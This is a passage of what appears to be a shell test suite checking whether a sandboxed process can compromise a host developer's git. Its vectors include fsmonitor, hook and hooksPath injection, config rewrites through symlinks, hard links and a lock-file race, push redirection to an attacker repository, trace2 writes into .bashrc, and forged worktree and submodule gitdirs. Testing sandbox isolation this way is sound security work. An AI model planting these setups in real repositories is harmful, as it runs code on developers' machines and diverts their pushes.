p_c_recenthook() { printf '[gc]\n\trecentObjectsHook = %s\n' "$X" | cfg; echo unreach | blob >/dev/null; }; t_c_recenthook() { T gc -q; T prune; T repack -qad --cruft; T maintenance run --task=gc; T gc --auto; }
V c_hookcfg x CONFIG 'hook.<n>.command/.event (git >= 2.54)'
p_c_hookcfg() { printf '[hook "v"]\n\tcommand = %s\n\tevent = pre-commit\n\tevent = post-checkout\n\tevent = post-index-change\n\tevent = reference-transaction\n' "$X" | cfg; }; t_c_hookcfg() { T status; T commit -qam m; T fetch -q; T checkout -q topic; }
V c_lazyfetch x CONFIG 'promisor remote + uploadpack: missing object triggers fetch on read-only commands'
p_c_lazyfetch() { printf '[core]\n\trepositoryformatversion = 1\n[extensions]\n\tpartialClone = evil\n[remote "evil"]\n\turl = %s/.git\n\tpromisor = true\n\tuploadpack = %s\n' "$H" "$X" | cfg
  local o; for o in $(git -C "$W" rev-parse HEAD:a.txt HEAD:dir HEAD~1); do rm -f "$W/.git/objects/${o:0:2}/${o:2}"; done; touch "$W/a.txt"; }
t_c_lazyfetch() { T status; T log -p -2; T diff HEAD; T show HEAD:a.txt; T blame a.txt; T restore .; T ls-files; T ls-tree -r HEAD; T gc -q; TX 'clone file://ws (upload-pack side)' 'git clone -q --no-local file://$H $B/cl'; }
V c_commit_template l CONFIG 'commit.template = outside file'
p_c_commit_template() { printf '[commit]\n\ttemplate = %s/outside/secret\n\tcleanup = verbatim\n' "$B" | cfg; }; t_c_commit_template() { TX 'commit -a (editor adds a line)' 'EDITOR="sh -c \"echo x >>\\\$1\" -" git commit -a'; T commit -qam m; }
V c_signaturefile l CONFIG 'format.signatureFile = outside file'
p_c_signaturefile() { printf '[format]\n\tsignatureFile = %s/outside/secret\n' "$B" | cfg; }; t_c_signaturefile() { T format-patch -1; }
V c_pushredirect d CONFIG 'pushInsteadOf / pushurl / pushDefault: push goes to the attacker'
p_c_pushredirect() { git init -q --bare "$W/.v/evil.git" 2>/dev/null; printf '[url "%s/.v/evil.git"]\n\tpushInsteadOf = file://%s/remote.git\n' "$H" "$B" | cfg; }; t_c_pushredirect() { T push -q origin main; }
k_c_pushredirect() { [ -n "$(ls "$H"/.v/evil.git/refs/heads 2>/dev/null)$(ls "$H"/.v/evil.git/packed-refs 2>/dev/null)" ] && echo 'FAKE(push went to attacker)'; }
V c_trace2 n - 'trace2.*Target in repo config'
p_c_trace2() { printf '[trace2]\n\tnormalTarget = %s/home/.bashrc\n\teventTarget = %s/home/.bashrc\n' "$B" "$B" | cfg; }; t_c_trace2() { T status; T commit -qam m; }
V c_attributesFile x CONFIG 'core.attributesFile = in-tree, activates a driver the developer defined globally with a relative path'
h_c_attributesFile() { git config -f "$B/home/.gitconfig" filter.tool.clean './tools/clean'; }
p_c_attributesFile() { mkdir -p "$W/tools"; cp "$W/.v/xcat" "$W/tools/clean"; echo '* filter=tool' >"$W/.v/at"; printf '[core]\n\tattributesFile = %s\n' "$H/.v/at" | cfg; touch "$W/a.txt"; }; t_c_attributesFile() { T status; T add -A; T diff; }
V c_quiet d CONFIG 'core.ignoreStat, diff.ignoreSubmodules, status.showUntrackedFiles=no, core.excludesFile: changes hidden'
p_c_quiet() { printf '[status]\n\tshowUntrackedFiles = no\n[core]\n\texcludesFile = %s/.v/ex\n' "$H" | cfg; echo '*' >"$W/.v/ex"; echo evil >"$W/new.sh"; }; t_c_quiet() { T status --porcelain; }
k_c_quiet() { grep -q new.sh "$B/out" || echo 'FAKE(new file not shown)'; }

#--------------------------------------------------------------- B. other ways to get the same config in place
EV() { printf '[core]\n\tfsmonitor = %s\n' "$X"; }
V w_gitconfig x CONFIG 'git config run inside'
p_w_gitconfig() { git -C "$W" config core.fsmonitor "$X"; }; t_w_gitconfig() { T status; }
V w_trunc x CONFIG 'open(O_TRUNC) and rewrite'
p_w_trunc() { local o; o=$(cat "$W/.git/config"); { echo "$o"; EV; } >"$W/.git/config"; }; t_w_trunc() { T status; }
V w_rename x CONFIG 'rename a file over config'
p_w_rename() { { cat "$W/.git/config"; EV; } >"$W/.v/c"; mv -f "$W/.v/c" "$W/.git/config"; }; t_w_rename() { T status; }
V w_lock x CONFIG 'create config.lock, rename'
p_w_lock() { { cat "$W/.git/config"; EV; } >"$W/.git/config.lock"; mv -f "$W/.git/config.lock" "$W/.git/config"; }; t_w_lock() { T status; }
V w_unlink x CONFIG 'unlink config, create'
p_w_unlink() { local o; o=$(cat "$W/.git/config"); rm -f "$W/.git/config"; { echo "$o"; EV; } >"$W/.git/config"; }; t_w_unlink() { T status; }
V w_hardlink_in x CONFIG 'hard link a prepared file to the name config'
p_w_hardlink_in() { { cat "$W/.git/config"; EV; } >"$W/.v/c"; rm -f "$W/.git/config"; ln "$W/.v/c" "$W/.git/config"; ln -f "$W/.v/c" "$W/.git/config"; }; t_w_hardlink_in() { T status; }
V w_hardlink_out x CONFIG 'hard link config to another name, write through it'
p_w_hardlink_out() { ln "$W/.git/config" "$W/.v/alias" && EV >>"$W/.v/alias"; }; t_w_hardlink_out() { T status; }
V w_symlink x CONFIG 'config replaced by a symlink'
p_w_symlink() { { cat "$W/.git/config"; EV; } >"$W/.v/c"; ln -sfn ../.v/c "$W/.git/config"; }; t_w_symlink() { T status; }
V w_via_symlink x CONFIG 'write through an in-tree symlink to .git/config'
p_w_via_symlink() { ln -s ../.git/config "$W/.v/l" && EV >>"$W/.v/l"; }; t_w_via_symlink() { T status; }
V w_fdalias x CONFIG 'read-only fd reopened through /proc/self/fd'
p_w_fdalias() { py fdalias "$W/.git/config" "[core]\\n\\tfsmonitor = $X\\n"; }; t_w_fdalias() { T status; }
V w_mmap x CONFIG 'MAP_SHARED write'
p_w_mmap() { py mmap "$W/.git/config" "[core]\\nfsmonitor=$X\\n#"; }; t_w_mmap() { T status; }
V w_tmpfile x CONFIG 'O_TMPFILE + linkat'
p_w_tmpfile() { py tmplink "$W/.git/config" "[core]\\n\\tfsmonitor = $X\\n"; }; t_w_tmpfile() { T status; }
V w_xchg x CONFIG 'renameat2(RENAME_EXCHANGE) of config'
p_w_xchg() { { cat "$W/.git/config"; EV; } >"$W/.v/c"; py xchg "$W/.v/c" "$W/.git/config"; }; t_w_xchg() { T status; }
V w_xchg_dir x NOMOVE 'RENAME_EXCHANGE of .git with a prepared directory'
p_w_xchg_dir() { cp -a "$W/.git" "$W/.v/g"; EV >>"$W/.v/g/config"; py xchg "$W/.v/g" "$W/.git"; }; t_w_xchg_dir() { T status; }
V w_mvgit x NOMOVE 'mv .git away, prepared directory in its place'
p_w_mvgit() { cp -a "$W/.git" "$W/.v/g"; EV >>"$W/.v/g/config"; mv "$W/.git" "$W/.v/old" && mv "$W/.v/g" "$W/.git"; }; t_w_mvgit() { T status; }
V w_rmgit x NOMOVE 'rm -rf .git, recreate with hostile config'
p_w_rmgit() { cp -a "$W/.git" "$W/.v/g"; EV >>"$W/.v/g/config"; rm -rf "$W/.git"; cp -a "$W/.v/g" "$W/.git"; }; t_w_rmgit() { T status; }
V w_copyrename x GITLIKE 'config placed in a non-gitdir first, HEAD last, then renamed to sub2/.git'
p_w_copyrename() { mkdir -p "$W/sub2/g/objects" "$W/sub2/g/refs"; { printf '[core]\nbare=false\nrepositoryformatversion=0\n'; EV; } >"$W/sub2/g/config"; mv "$W/sub2/g" "$W/sub2/.git"; echo 'ref: refs/heads/main' >"$W/sub2/.git/HEAD"; }; t_w_copyrename() { T -C sub2 status; }
V w_race x CONFIG 'hold an fd on config.lock while the host runs git config, write after the rename'
KEEP_w_race=1
p_w_race() { :; }; t_w_race() { TX 'git config user.x y (sandbox racing); status' '/usr/bin/python3 - "$VIEW/.git" "'"$X"'" <<PYE &
import os,sys,time
g,x=sys.argv[1:]; end=time.time()+6; hit=0
while time.time()<end and not hit:
    try: fd=os.open(g+"/config.lock",os.O_RDWR)
    except OSError: continue
    while os.path.exists(g+"/config.lock") and time.time()<end: pass
    try: os.lseek(fd,0,2); os.write(fd,("[core]\n\tfsmonitor = "+x+"\n").encode())
    except OSError: pass
    os.close(fd)
PYE
for i in $(seq 300); do git config user.x$i y; git config --get core.fsmonitor && break; done; wait; git status'; }
V w_casefold n - '.GIT beside .git (case-sensitive filesystem)'
p_w_casefold() { cp -a "$W/.git" "$W/.GIT"; EV >>"$W/.GIT/config"; mkhooks "$W/.GIT/hooks"; }; t_w_casefold() { T status; T commit -qam m; }
V w_casefold2 n - 'nested .GIT / .Git (case-sensitive filesystem)'
p_w_casefold2() { nested "$W/n2"; mv "$W/n2/.git" "$W/n2/.GIT"; }; t_w_casefold2() { T -C n2 status; T status; }

#--------------------------------------------------------------- C. hooks
V h_all x HOOKS 'every hook in .git/hooks'
p_h_all() { mkhooks "$W/.git/hooks"; }
t_h_all() { all; T am -q "$B/patch"; T commit --allow-empty -m x; TX 'rebase -i' 'GIT_SEQUENCE_EDITOR=true git rebase -i --autostash HEAD~1'; TX 'someone pushes into ws' 'git -C $B/wtclone push -q file://$H HEAD:refs/heads/pushed'; TX 'push into ws, updateInstead' 'git stash -q; git -c receive.denyCurrentBranch=updateInstead config receive.denyCurrentBranch updateInstead; git -C $B/wtclone push -qf file://$H HEAD:main'; T submodule update --remote; TX 'clone file://ws' 'git clone -q --no-local file://$H $B/cl'; T rebase -q --apply --autostash topic; T tag -d v1; T branch -D topic; T update-index --refresh; T sparse-checkout set dir; T pack-refs --all; T remote update; T reflog expire --all --expire=now; T bisect reset; T read-tree HEAD; T stash list; T reset -q; T mv a.txt z.txt; T rm -q a.txt; T checkout-index -a; }
V h_one_rename x HOOKS 'a .sample hook renamed / hook hard-linked from the tree'
p_h_one_rename() { cp "$W/.v/x" "$W/.v/hk"; ln "$W/.v/hk" "$W/.git/hooks/pre-commit"; cp "$W/.v/x" "$W/.git/hooks/post-index-change.sample"; mv "$W/.git/hooks/post-index-change.sample" "$W/.git/hooks/post-index-change"; }; t_h_one_rename() { T status; T commit -qam m; }
V h_symlink x HOOKS 'a hook is a symlink to an in-tree script'
p_h_symlink() { ln -sf ../../.v/x "$W/.git/hooks/pre-commit"; }; t_h_symlink() { T commit -qam m; }
V h_dirsymlink x HOOKS '.git/hooks replaced by a symlink to an in-tree directory'
p_h_dirsymlink() { mkhooks "$W/.v/h"; rm -rf "$W/.git/hooks"; mv "$W/.git/hooks" "$W/.git/hooks.old" 2>/dev/null; ln -sfn ../.v/h "$W/.git/hooks"; }; t_h_dirsymlink() { T status; T commit -qam m; }
V h_dirrename x HOOKS 'prepared directory renamed to .git/hooks'
p_h_dirrename() { mkhooks "$W/.git/hh"; mkhooks "$W/.v/h"; rm -rf "$W/.git/hooks" 2>/dev/null; mv "$W/.git/hooks" "$W/.v/oldh" 2>/dev/null; mv "$W/.git/hh" "$W/.git/hooks" 2>/dev/null || mv "$W/.v/h" "$W/.git/hooks"; }; t_h_dirrename() { T status; T commit -qam m; }
V h_absent x HOOKS '.git/hooks absent on the host, created inside'
h_h_absent() { rm -rf "$H/.git/hooks"; }
p_h_absent() { mkhooks "$W/.git/hooks"; }; t_h_absent() { T status; T commit -qam m; }
V h_existing x HOOKS "the developer's own hook is rewritten in place (mode kept)"
h_h_existing() { printf '#!/bin/sh\nexit 0\n' >"$H/.git/hooks/pre-commit"; chmod +x "$H/.git/hooks/pre-commit"; }
p_h_existing() { cat "$W/.v/x" >"$W/.git/hooks/pre-commit"; }; t_h_existing() { T commit -qam m; }
V h_husky x HOOKSPATH 'host has core.hooksPath=.husky (tracked dir); hook edited'
h_h_husky() { mkdir -p "$H/.husky"; printf '#!/bin/sh\nexit 0\n' >"$H/.husky/pre-commit"; chmod +x "$H/.husky/pre-commit"; (cd "$H" && git add .husky && git commit -qm husky && git config core.hooksPath .husky) >/dev/null 2>&1; }
p_h_husky() { mkhooks "$W/.husky"; }; t_h_husky() { T status; T commit -qam m; T checkout -q topic; }
V h_husky_absent x HOOKSPATH 'host has core.hooksPath=.githooks, directory does not exist yet'
h_h_husky_absent() { git -C "$H" config core.hooksPath .githooks; }
p_h_husky_absent() { mkhooks "$W/.githooks"; }; t_h_husky_absent() { T status; T commit -qam m; }
V h_husky_global x HOOKSPATH 'relative core.hooksPath in the GLOBAL config, nested repo/submodule'
h_h_husky_global() { git config -f "$B/home/.gitconfig" core.hooksPath .githooks; }
p_h_husky_global() { mkhooks "$W/sub/.githooks"; }; t_h_husky_global() { T -C sub status; T -C sub commit --allow-empty -qm x; }
V h_wrapper x REPORT "the developer's own hook runs a tracked script/config (pre-commit, lint-staged, lefthook)"
h_h_wrapper() { mkdir -p "$H/scripts"; echo 'exit 0' >"$H/scripts/lint.sh"; (cd "$H" && git add scripts && git commit -qm s) >/dev/null 2>&1; printf '#!/bin/sh\nexec sh scripts/lint.sh\n' >"$H/.git/hooks/pre-commit"; chmod +x "$H/.git/hooks/pre-commit"; }
p_h_wrapper() { cat "$W/.v/x" >"$W/scripts/lint.sh"; }; t_h_wrapper() { T commit -qam m; }
V h_incfile x INCLUDED 'host config has include.path=../.gitconfig (tracked)'
h_h_incfile() { echo '# x' >"$H/.gitconfig"; (cd "$H" && git add .gitconfig && git commit -qm g && git config include.path ../.gitconfig) >/dev/null 2>&1; }
p_h_incfile() { EV >>"$W/.gitconfig"; }; t_h_incfile() { T status; }
V h_incabsent x INCLUDED 'host config has include.path=../.gitconfig.local, file absent'
h_h_incabsent() { git -C "$H" config include.path ../.gitconfig.local; }
p_h_incabsent() { EV >"$W/.gitconfig.local"; }; t_h_incabsent() { T status; }
V h_cfgcmd x INCLUDED 'host config value runs a tracked script (filter, alias, textconv, editor)'
h_h_cfgcmd() { mkdir -p "$H/tools"; printf '#!/bin/sh\nexec cat\n' >"$H/tools/f"; chmod +x "$H/tools/f"; (cd "$H" && git add tools && git commit -qm t && git config filter.t.clean ./tools/f && echo '*.txt filter=t' >.gitattributes && git add .gitattributes && git commit -qm at) >/dev/null 2>&1; }
p_h_cfgcmd() { cat "$W/.v/xcat" >"$W/tools/f"; touch "$W/a.txt"; }; t_h_cfgcmd() { T status; T add -A; }

V h_home x INCLUDED '$HOME (or $XDG_CONFIG_HOME) lies inside the workspace: ~/.gitconfig, ~/.config/git/config'
p_h_home() { EV >>"$W/.gitconfig"; mkdir -p "$W/.config/git"; EV >"$W/.config/git/config"; }; t_h_home() { TX 'HOME=ws git status' 'HOME=$H git status'; TX 'XDG_CONFIG_HOME=ws/.config git status' 'HOME=/nonexistent XDG_CONFIG_HOME=$H/.config git status'; }
V h_hookslink x HOOKSPATH "the host's .git/hooks is a symlink to a tracked directory; hook edited there"
h_h_hookslink() { mkdir -p "$H/githooks"; printf '#!/bin/sh\nexit 0\n' >"$H/githooks/pre-commit"; chmod +x "$H/githooks/pre-commit"; rm -rf "$H/.git/hooks"; ln -s ../githooks "$H/.git/hooks"; }
p_h_hookslink() { cat "$W/.v/x" >"$W/githooks/pre-commit"; }; t_h_hookslink() { T commit -qam m; }
V h_cfglink x INCLUDED "the host's .git/config is a symlink to a tracked file"
h_h_cfglink() { mv "$H/.git/config" "$H/gitcfg"; ln -s ../gitcfg "$H/.git/config"; }
p_h_cfglink() { EV >>"$W/gitcfg"; }; t_h_cfglink() { T status; }
V h_cfghard x INCLUDED "the host's .git/config already has a second hard link in the tree"
h_h_cfghard() { ln "$H/.git/config" "$H/gitcfg"; }
p_h_cfghard() { EV >>"$W/gitcfg"; }; t_h_cfghard() { T status; }
V h_chmod x HOOKS "chmod +x on a hook the developer disabled"
h_h_chmod() { printf '#!/bin/sh\necho old >>"%s"\n' "$C" >"$H/.git/hooks/pre-commit"; chmod 644 "$H/.git/hooks/pre-commit"; }
p_h_chmod() { chmod +x "$W/.git/hooks/pre-commit"; }; t_h_chmod() { T commit -qam m; }
V h_cfgchmod d CONFIG "config made world-writable / unreadable"
p_h_cfgchmod() { chmod 666 "$W/.git/config"; }; t_h_cfgchmod() { T status; }
k_h_cfgchmod() { [ "$(stat -c %a "$H/.git/config")" = 666 ] && echo 'FAKE(mode)'; }

#--------------------------------------------------------------- D. gitdir structure, pointers, nested and look-alike repositories
V g_commondir x COMMONDIR '.git/commondir created in the main gitdir'
p_g_commondir() { evilgit "$W/.v/g" "$H/.v/g"; echo ../.v/g >"$W/.git/commondir"; }; t_g_commondir() { all; }
V g_cfgworktree x CONFIG 'config.worktree, host already has extensions.worktreeConfig'
h_g_cfgworktree() { git -C "$H" config extensions.worktreeConfig true; }
p_g_cfgworktree() { EV >>"$W/.git/config.worktree"; }; t_g_cfgworktree() { T status; T -C "$B/wt" status; }
V g_cfgworktree_wt x CONFIG 'worktrees/<id>/config.worktree of a linked worktree elsewhere'
h_g_cfgworktree_wt() { git -C "$H" config extensions.worktreeConfig true; }
p_g_cfgworktree_wt() { EV >>"$W/.git/worktrees/wt/config.worktree"; }; t_g_cfgworktree_wt() { T -C "$B/wt" status; T status; }
V g_cfgworktree_off n CONFIG 'config.worktree without extensions.worktreeConfig'
p_g_cfgworktree_off() { EV >>"$W/.git/config.worktree"; }; t_g_cfgworktree_off() { T status; }
V g_wt_commondir x COMMONDIR 'worktrees/<id>/commondir rewritten'
p_g_wt_commondir() { evilgit "$W/.v/g" "$H/.v/g"; echo "$H/.v/g" >"$W/.git/worktrees/wt/commondir"; }; t_g_wt_commondir() { T -C "$B/wt" status; T -C "$B/wt" commit --allow-empty -qm x; T status; T worktree list; }
V g_wt_rmcommondir x COMMONDIR 'worktrees/<id>/commondir removed, own config+objects+refs created there'
p_g_wt_rmcommondir() { local d="$W/.git/worktrees/wt"; rm -f "$d/commondir"; cp -a "$W/.git/objects" "$W/.git/refs" "$d/"; { printf '[core]\nrepositoryformatversion=0\nbare=false\n'; EV; } >"$d/config"; mkhooks "$d/hooks"; }; t_g_wt_rmcommondir() { T -C "$B/wt" status; T -C "$B/wt" commit --allow-empty -qm x; }
V g_wt_new x GITFILE 'forged worktrees/evil + x/.git file (with hostile commondir)'
p_g_wt_new() { evilgit "$W/.v/g" "$H/.v/g"; mkdir -p "$W/.git/worktrees/evil" "$W/x"; cp "$W/.git/HEAD" "$W/.git/worktrees/evil/"; echo "$H/.v/g" >"$W/.git/worktrees/evil/commondir"; echo "$H/x/.git" >"$W/.git/worktrees/evil/gitdir"; echo "gitdir: $H/.git/worktrees/evil" >"$W/x/.git"; }; t_g_wt_new() { T -C x status; T worktree list; T status; T worktree prune; T worktree repair; }
V g_wt_repair w GITDIRPTR 'worktrees/<id>/gitdir -> $HOME/.git: worktree repair writes a .git file there'
p_g_wt_repair() { mkdir -p "$W/.git/worktrees/evil"; cp "$W/.git/HEAD" "$W/.git/worktrees/evil/"; echo ../.. >"$W/.git/worktrees/evil/commondir"; echo "$B/home/.git" >"$W/.git/worktrees/evil/gitdir"; }; t_g_wt_repair() { T worktree repair; T worktree list; T worktree prune; T worktree remove --force "$B/home"; T worktree move "$B/home" "$B/home2"; T status; T gc -q; }
V g_wt_gitdir d GITDIRPTR 'worktrees/wt/gitdir changed: registration lost at next prune/gc'
p_g_wt_gitdir() { echo /nonexistent/.git >"$W/.git/worktrees/wt/gitdir"; touch -d 2001-01-01 "$W/.git/worktrees/wt/gitdir" "$W/.git/worktrees/wt/index"; }; t_g_wt_gitdir() { T worktree prune --expire now; T gc -q; }
k_g_wt_gitdir() { [ -d "$H/.git/worktrees/wt" ] || echo 'DOS(worktree registration deleted)'; }
V g_gitfile_root x GITFILE '.git directory replaced by a .git file -> hostile gitdir'
p_g_gitfile_root() { evilgit "$W/.v/g" "$H/.v/g" "$H"; mv "$W/.git" "$W/.v/old" && echo 'gitdir: .v/g' >"$W/.git"; }; t_g_gitfile_root() { T status; T commit -qam m; }
V g_symlink_root x GITFILE '.git replaced by a symlink to a hostile gitdir'
p_g_symlink_root() { evilgit "$W/.v/g" "$H/.v/g" "$H"; mv "$W/.git" "$W/.v/old" && ln -s .v/g "$W/.git"; }; t_g_symlink_root() { T status; T commit -qam m; }
V g_nogit x GITLIKE 'workspace without .git: one is created inside'
h_g_nogit() { rm -rf "$H/.git"; }
p_g_nogit() { nested "$W"; }; t_g_nogit() { T status; T add -A; T commit --allow-empty -qm x; TX 'prompt' '. $VEC_PROMPT; GIT_PS1_SHOWDIRTYSTATE=1; __git_ps1'; }
V g_nested x GITLIKE 'new nested repository: cd there (or IDE opens it)'
p_g_nested() { nested "$W/nest"; }; t_g_nested() { T -C nest status; T -C nest diff; T -C nest commit --allow-empty -qm x; TX 'prompt in nest' 'cd nest; . $VEC_PROMPT; GIT_PS1_SHOWDIRTYSTATE=1; __git_ps1'; T status; T status -uall; T ls-files -o; T clean -ndx; T grep --untracked -q a; }
V g_nested_add x GITLIKE 'new nested repository: host git add -A at the top, then status at the top'
p_g_nested_add() { nested "$W/nest"; }; t_g_nested_add() { TX 'add -A; status' 'git add -A; git status'; TX 'add -A; diff' 'git add -A; git diff'; TX 'add -A; commit -m' 'git add -A; git commit -qm x'; }
V g_nested_gitlink x GITLIKE 'nested repository + gitlink forged in the index: plain top-level commands recurse into it'
p_g_nested_gitlink() { nested "$W/nest"; local h; h=$(git -C "$W/nest" rev-parse HEAD); py idx "$W/.git/index" "160000,$h,nest"; }; t_g_nested_gitlink() { all; }
V g_nested_swap x GITLIKE 'as above, nest/.git is a .git FILE -> look-alike dir inside the tree'
p_g_nested_swap() { nested "$W/nest"; mv "$W/nest/.git" "$W/data"; echo 'gitdir: ../data' >"$W/nest/.git"; printf '[core]\n\tworktree = ../nest\n' >>"$W/data/config"; py idx "$W/.git/index" "160000,$(git -C "$W/nest" rev-parse HEAD),nest"; }; t_g_nested_swap() { T status; T diff; T -C nest status; }
V g_bare x GITLIKE 'bare-looking directory (HEAD+objects+refs+config), cwd inside it'
p_g_bare() { evilgit "$W/docs" "$H/docs" "$H"; }; t_g_bare() { T -C docs status; T -C docs log -1; TX 'prompt in docs' 'cd docs; . $VEC_PROMPT; GIT_PS1_SHOWDIRTYSTATE=1; __git_ps1'; TX 'cd docs/sub/dir; status' 'mkdir -p docs/d/e; cd docs/d/e; git status'; T status; T add -A; TX 'safe.bareRepository=explicit: status in docs' 'git config --global safe.bareRepository explicit; cd docs; git status'; }
V g_bare_min x GITLIKE 'bare look-alike made of HEAD + commondir + in-tree store only'
p_g_bare_min() { evilgit "$W/.v/g" "$H/.v/g" "$H"; mkdir -p "$W/docs"; cp "$W/.git/HEAD" "$W/docs/"; echo ../.v/g >"$W/docs/commondir"; printf '[core]\n\tpager = %s\n' "$X" >>"$W/.v/g/config"; }; t_g_bare_min() { T -C docs status; T -C docs branch nb; T -C docs fetch; TP '-C docs log -1'; T -C docs tag zz; }
V g_bare_odd x GITLIKE 'look-alike whose objects/refs are symlinks or executable files, HEAD a symlink'
p_g_bare_odd() { mkdir -p "$W/docs"; ln -s refs/heads/main "$W/docs/HEAD"; ln -s ../.git/refs "$W/docs/refs"; ln -s ../.git/objects "$W/docs/objects"; { printf '[core]\nrepositoryformatversion=0\nbare=false\nworktree=%s\n' "$H"; EV; } >"$W/docs/config"; mkdir -p "$W/docs2"; cp "$W/.git/HEAD" "$W/docs2/"; touch "$W/docs2/objects" "$W/docs2/refs"; chmod +x "$W/docs2/objects" "$W/docs2/refs"; cp "$W/docs/config" "$W/docs2/"; }; t_g_bare_odd() { T -C docs status; T -C docs2 status; }
V g_bare_existdir x GITLIKE 'existing tracked directory turned into a look-alike; developer works in it'
p_g_bare_existdir() { evilgit "$W/dir" "$H/dir" "$H"; }; t_g_bare_existdir() { T -C dir status; TX 'cd dir; git diff' 'cd dir; git diff'; TX 'cd dir; git commit' 'cd dir; git commit -qam x'; }
V g_rootbare x HEADSANE '.git/HEAD spoiled, look-alike in the workspace root takes over'
p_g_rootbare() { evilgit "$W" "$H" "$H"; echo junk >"$W/.git/HEAD"; rm -f "$W/.git/HEAD"; }; t_g_rootbare() { T status; T commit -qam x; }
V g_upward w HEADSANE '.git/HEAD spoiled: commands act on an outer repository (dotfiles in $HOME)'
h_g_upward() { (cd "$B" && git init -q -b main . && git add -f outside && git commit -qm o && echo changed >>outside/f1 ) >/dev/null 2>&1; }
p_g_upward() { echo junk >"$W/.git/HEAD" || rm -f "$W/.git/HEAD"; }; t_g_upward() { T stash; T reset -q --hard; T restore :/; T status; }
V g_inside x GITLIKE 'hostile .git planted below a gitdir (.git/refs/.git, .git/logs/.git) or look-alike made of .git/logs'
p_g_inside() { evilgit "$W/.git/refs/.git" "$H/.git/refs/.git" "$H"; mkdir -p "$W/.git/logs/objects"; { printf '[core]\nrepositoryformatversion=0\nbare=false\nworktree=%s\n' "$H"; EV; } >"$W/.git/logs/config"; }; t_g_inside() { T -C .git/refs status; T -C .git/logs status; T -C .git status; }
V g_chmod d NOMOVE 'chmod 000 of .git/objects, refs, HEAD or .git itself (non-root host): git silently uses an outer repository'
h_g_chmod() { (cd "$B" && git init -q -b main .) >/dev/null 2>&1; }
p_g_chmod() { chmod 000 "$W/.git/objects"; }; t_g_chmod() { TX 'rev-parse (non-root)' '[ "$(id -u)" = 0 ] && A="setpriv --reuid=65534 --regid=65534 --clear-groups"; $A git -c safe.directory="*" rev-parse --absolute-git-dir'; }
k_g_chmod() { grep -qx "$B/.git" "$B/out" && echo 'FAKE(outer repository used)'; }
V g_modules_cfg x CONFIG '.git/modules/<m>/config'
p_g_modules_cfg() { EV >>"$W/.git/modules/sub/config"; }; t_g_modules_cfg() { all; }
V g_modules_hooks x HOOKS '.git/modules/<m>/hooks'
p_g_modules_hooks() { mkhooks "$W/.git/modules/sub/hooks"; }; t_g_modules_hooks() { T status; T -C sub status; TX 'submodule update' 'git -C sub checkout -q HEAD~1; rm -f '"$C"'; git submodule update'; T submodule foreach -q 'git status >/dev/null'; T pull -q --no-rebase --recurse-submodules; T fetch -q; T commit -qam m; }
V g_modules_commondir x COMMONDIR '.git/modules/<m>/commondir'
p_g_modules_commondir() { evilgit "$W/.v/g" "$H/.v/g"; cp -a "$W/.git/modules/sub/objects/." "$W/.v/g/objects/"; echo "$H/.v/g" >"$W/.git/modules/sub/commondir"; }; t_g_modules_commondir() { T status; T -C sub status; }
V g_modules_worktree w CONFIG '.git/modules/<m>/config core.worktree = outside'
p_g_modules_worktree() { printf '[core]\n\tworktree = %s/home\n' "$B" >>"$W/.git/modules/sub/config"; }; t_g_modules_worktree() { T submodule update --force; T -C sub restore .; T -C sub reset -q --hard; T -C sub clean -fdx; T status; T submodule deinit -f sub; }
V g_modules_plant x GITLIKE '.git/modules/<new> planted before the developer initialises the submodule'
h_g_modules_plant() { (cd "$H" && git submodule --quiet deinit -f sub && rm -rf .git/modules/sub) >/dev/null 2>&1; }
p_g_modules_plant() { git clone -q --bare "$W/../sub-up.git" "$W/.git/modules/sub" 2>/dev/null || git clone -q --bare "$B/sub-up.git" "$W/.git/modules/sub"; printf '[core]\n\tbare=false\n\tworktree=../../../sub\n[remote "origin"]\n\turl=%s/sub-up.git\n' "$B" >>"$W/.git/modules/sub/config"; mkhooks "$W/.git/modules/sub/hooks"; }; t_g_modules_plant() { T submodule update --init; T -c protocol.file.allow=always submodule update --init; }
V g_modules_name x GITLIKE 'new submodule declared inside (.gitmodules + gitlink + .git/modules/x): host submodule update --init'
p_g_modules_name() { git clone -q --bare "$B/sub-up.git" "$W/.git/modules/x" 2>/dev/null; printf '[core]\n\tbare=false\n\tworktree=../../../x\n[remote "origin"]\n\turl=%s/sub-up.git\n' "$B" >>"$W/.git/modules/x/config"; mkhooks "$W/.git/modules/x/hooks"; printf '[submodule "x"]\n\tpath = x\n\turl = %s/sub-up.git\n' "$B" >>"$W/.gitmodules"; py idx "$W/.git/index" "160000,$(git -C "$B/sub-up.git" rev-parse main),x"; }; t_g_modules_name() { T submodule update --init; T status; }
V g_sub_gitfile x GITFILE 'sub/.git file rewritten -> hostile gitdir in the tree'
p_g_sub_gitfile() { mkdir -p "$W/.v/g"; cp -a "$W/.git/modules/sub/." "$W/.v/g/"; printf '[core]\n\tworktree = %s/sub\n\tfsmonitor = %s\n' "$H" "$X" >>"$W/.v/g/config"; mkhooks "$W/.v/g/hooks"; echo "gitdir: $H/.v/g" >"$W/sub/.git"; }; t_g_sub_gitfile() { all; }
V g_sub_gitdir x GITFILE 'sub/.git file replaced by a hostile directory'
p_g_sub_gitdir() { rm -f "$W/sub/.git"; mkdir -p "$W/sub/.git" && cp -a "$W/.git/modules/sub/." "$W/sub/.git/"; printf '[core]\n\tworktree = %s/sub\n\tfsmonitor = %s\n' "$H" "$X" >>"$W/sub/.git/config"; }; t_g_sub_gitdir() { T status; T -C sub status; }
V g_sub_move x GITFILE 'parent of sub renamed so that its relative .git pointer meets a planted dir'
h_g_sub_move() { (cd "$H" && mkdir -p deep && git mv sub deep/sub && git commit -qm mv) >/dev/null 2>&1; }
p_g_sub_move() { mkdir -p "$W/.v/q/.git/modules"; cp -a "$W/.git/modules/sub" "$W/.v/q/.git/modules/sub"; EV >>"$W/.v/q/.git/modules/sub/config"; mv "$W/deep" "$W/.v/q/deep"; }; t_g_sub_move() { T -C .v/q/deep/sub status; T status; }
V g_gitfile_outside w GITFILE "nest/.git file -> another real repository outside; gitlink forged; recursing commands change it"
p_g_gitfile_outside() { mkdir -p "$W/nest"; echo "gitdir: $B/outside/vic/.git" >"$W/nest/.git"; py idx "$W/.git/index" "160000,$(git -C "$B/outside/vic" rev-parse HEAD~1),nest"; printf '[submodule "nest"]\n\tpath = nest\n\turl = ./x\n' >>"$W/.gitmodules"; }; t_g_gitfile_outside() { T submodule update; T submodule update --init; T checkout -q --recurse-submodules -f; T -C nest status; T -C nest commit -qam x; T status; T submodule update --init --force; T submodule absorbgitdirs; }
V g_gitdirname x GITLIKE 'new .git directory below an ordinary tracked directory: cd there'
